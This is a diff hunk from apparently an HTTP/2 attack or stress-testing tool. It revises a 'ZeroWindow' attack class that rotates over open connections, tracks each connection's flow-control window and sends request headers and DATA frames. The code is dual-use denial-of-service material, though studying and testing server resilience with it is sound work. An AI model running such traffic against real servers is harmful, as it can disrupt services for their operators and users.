@@ -79,18 +79,19 @@ class ZeroWindow(Attack):
         if time.monotonic() < self.next_at or self.asked >= self.some(1000):
             return
         self.next_at = time.monotonic() + 0.02
-        for connection in list(self.crowd.open.values())[self.asked % 4::4]:
-            if connection.next_stream > 200 or connection.backlog:
-                continue
-            stream = connection.stream()
-            connection.send(http2.header_frames(stream, self.headers))
-            for at in range(0, len(self.body), http2.FRAME_BYTES):
-                part = self.body[at:at + http2.FRAME_BYTES]
-                is_last = at + len(part) == len(self.body)
-                connection.send(frame(DATA, END_STREAM if is_last else 0, stream, part))
-            self.asked += 1
-            self.counts["batches of 64 asked for"] += 1
-            break
+        open_now = list(self.crowd.open.values())
+        connection = open_now[self.asked % len(open_now)] if open_now else None
+        if connection is None or connection.backlog or connection.window < len(self.body):
+            return
+        stream = connection.stream()
+        connection.window -= len(self.body)
+        connection.send(http2.header_frames(stream, self.headers))
+        for at in range(0, len(self.body), http2.FRAME_BYTES):
+            part = self.body[at:at + http2.FRAME_BYTES]
+            is_last = at + len(part) == len(self.body)
+            connection.send(frame(DATA, END_STREAM if is_last else 0, stream, part))
+        self.asked += 1
+        self.counts["batches of 64 asked for"] += 1
 
     def hear(self, connection, frames):
         connection.acknowledge(one for one in frames if one[0] != DATA)
